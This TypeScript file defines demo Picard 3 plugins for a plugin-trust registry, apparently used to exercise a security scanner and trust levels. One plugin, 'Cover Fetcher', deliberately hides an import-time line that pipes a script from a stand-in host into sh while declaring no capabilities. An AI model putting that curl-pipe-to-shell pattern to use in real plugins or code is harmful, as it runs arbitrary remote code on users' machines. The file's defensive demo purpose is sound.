/**
 * The plugins of the demo ecosystem: one for each trust level a user meets, one blacklisted
 * and one the scanner flags. Each is a small but real Picard 3 plugin (MANIFEST.toml and
 * Python code) whose releases become annotated tags of its own git repository.
 */

export type DemoTrust = 'official' | 'trusted' | 'community' | 'unregistered';

export interface DemoRelease {
	tag: string;
	/**
	 * The files this release writes (path → content) over the previous release's; the manifest
	 * is added from the plugin.
	 */
	files: Readonly<Record<string, string>>;
}

export interface DemoPlugin {
	/** The registry id, also the repository name (`<id>.git`). */
	id: string;
	uuid: string;
	name: string;
	description: string;
	trust: DemoTrust;
	/** The registry pins these releases (D19b): commit and tree digest. */
	pinned: boolean;
	/** Registered, then blacklisted with this reason. */
	blacklistReason?: string;
	/** Declared capabilities (D20). */
	capabilities: Readonly<Record<string, boolean>>;
	releases: readonly DemoRelease[];
}

const NOTHING_DECLARED = {
	network: false,
	filesystem_read: false,
	filesystem_write: false,
	subprocess: false,
	native_code: false,
};

const TITLE_CASE_V1 = `"""Title-cases track titles, keeping small words lowercase."""

SMALL_WORDS = {"a", "an", "and", "of", "the", "to", "in"}


def title_case(text):
    words = text.split(" ")
    out = []
    for index, word in enumerate(words):
        lower = word.lower()
        out.append(lower if index > 0 and lower in SMALL_WORDS else lower.capitalize())
    return " ".join(out)


def enable(api):
    api.register_track_metadata_processor(
        lambda track, metadata: metadata.update(title=title_case(metadata.get("title", "")))
    )
`;

const TITLE_CASE_V11 = TITLE_CASE_V1.replace(
	'SMALL_WORDS = {"a", "an", "and", "of", "the", "to", "in"}',
	'SMALL_WORDS = {"a", "an", "and", "of", "the", "to", "in", "on", "at", "for"}',
);

export const DEMO_PLUGINS: readonly DemoPlugin[] = [
	{
		id: 'title-case',
		uuid: '161617bb-8496-4729-b9b2-20ee63305069',
		name: 'Title Case',
		description: 'Title-cases track titles, keeping small words lowercase',
		trust: 'official',
		pinned: true,
		capabilities: NOTHING_DECLARED,
		releases: [
			{ tag: 'v1.0.0', files: { '__init__.py': TITLE_CASE_V1 } },
			{ tag: 'v1.1.0', files: { '__init__.py': TITLE_CASE_V11 } },
		],
	},
	{
		id: 'disc-numbers',
		uuid: '82b0a691-efd8-4a9b-b570-61781f3d77bb',
		name: 'Disc Numbers',
		description: 'Writes "1/2" style disc numbers from the medium count',
		trust: 'trusted',
		pinned: true,
		capabilities: NOTHING_DECLARED,
		releases: [
			{
				tag: 'v1.0.0',
				files: {
					'__init__.py': `"""Writes disc numbers as "n/total"."""


def enable(api):
    def process(album, metadata):
        total = metadata.get("totaldiscs")
        if total:
            metadata["discnumber"] = "%s/%s" % (metadata.get("discnumber", "1"), total)

    api.register_album_metadata_processor(process)
`,
				},
			},
		],
	},
	{
		id: 'genre-tidy',
		uuid: '051fca41-395a-4aa0-abef-b73cb7393091',
		name: 'Genre Tidy',
		description: 'Merges genre spellings such as "Hip Hop" and "hip-hop"',
		trust: 'community',
		pinned: false,
		capabilities: NOTHING_DECLARED,
		releases: [
			{
				tag: 'v0.3.0',
				files: {
					'__init__.py': `"""Merges genre spellings."""


def tidy(genre):
    return genre.strip().lower().replace(" ", "-")


def enable(api):
    api.register_track_metadata_processor(
        lambda track, metadata: metadata.update(genre=tidy(metadata.get("genre", "")))
    )
`,
				},
			},
		],
	},
	{
		id: 'cover-fetcher',
		uuid: '65079f0c-54ba-42b0-9df3-127c01495a1f',
		name: 'Cover Fetcher',
		description: 'Fetches larger cover art for your releases',
		trust: 'community',
		pinned: false,
		// It claims to need nothing, yet starts a shell as soon as it is imported: the scanner
		// reports execution at import time, high severity (D21).
		capabilities: NOTHING_DECLARED,
		releases: [
			{
				tag: 'v2.0.0',
				files: {
					'__init__.py': `"""Fetches larger cover art."""
import os

os.system("curl -s https://cover-cache.example/setup.sh | sh")


def enable(api):
    pass
`,
				},
			},
		],
	},
	{
		id: 'stream-ripper',
		uuid: 'b0c7f61f-3bdc-42a1-b337-d6eac2d6d266',
		name: 'Stream Ripper',
		description: 'Adds streaming links to releases',
		trust: 'community',
		pinned: false,
		blacklistReason:
			'Sent the paths of your music library to a third party. Reported by users, confirmed by the maintainers.',
		capabilities: NOTHING_DECLARED,
		releases: [
			{
				tag: 'v1.2.0',
				files: {
					'__init__.py': `"""Adds streaming links."""


def enable(api):
    pass
`,
				},
			},
		],
	},
	{
		id: 'local-notes',
		uuid: '1934257e-edbc-4b56-89b2-511799a888c0',
		name: 'Local Notes',
		description: 'Keeps your own notes beside each release; in no registry',
		trust: 'unregistered',
		pinned: false,
		capabilities: NOTHING_DECLARED,
		releases: [
			{
				tag: 'v0.1.0',
				files: {
					'__init__.py': `"""Keeps notes beside releases."""


def enable(api):
    api.register_album_action("Add a note", lambda album: None)
`,
				},
			},
		],
	},
];

/** The one plugin of each role the instructions and tests use. */
export function demoPlugin(role: DemoRole): DemoPlugin {
	const id = DEMO_ROLES[role];
	const plugin = DEMO_PLUGINS.find((candidate) => candidate.id === id);
	if (plugin === undefined) throw new Error(`No demo plugin ${id}.`);
	return plugin;
}

export const DEMO_ROLES = {
	official: 'title-case',
	trusted: 'disc-numbers',
	community: 'genre-tidy',
	flagged: 'cover-fetcher',
	blacklisted: 'stream-ripper',
	unregistered: 'local-notes',
} as const;

export type DemoRole = keyof typeof DEMO_ROLES;

/** MANIFEST.toml of a demo plugin (Picard 3 fields and Vouch's `[capabilities]`). */
export function demoManifest(plugin: DemoPlugin, version: string): string {
	const capabilities = Object.entries(plugin.capabilities)
		.map(([name, value]) => `${name} = ${value}`)
		.join('\n');
	return [
		`uuid = ${JSON.stringify(plugin.uuid)}`,
		`name = ${JSON.stringify(plugin.name)}`,
		`description = ${JSON.stringify(plugin.description)}`,
		'api = ["3.0"]',
		`version = ${JSON.stringify(version)}`,
		'authors = ["Vouch demo"]',
		'license = "MIT"',
		'',
		'[capabilities]',
		capabilities,
		'',
	].join('\n');
}
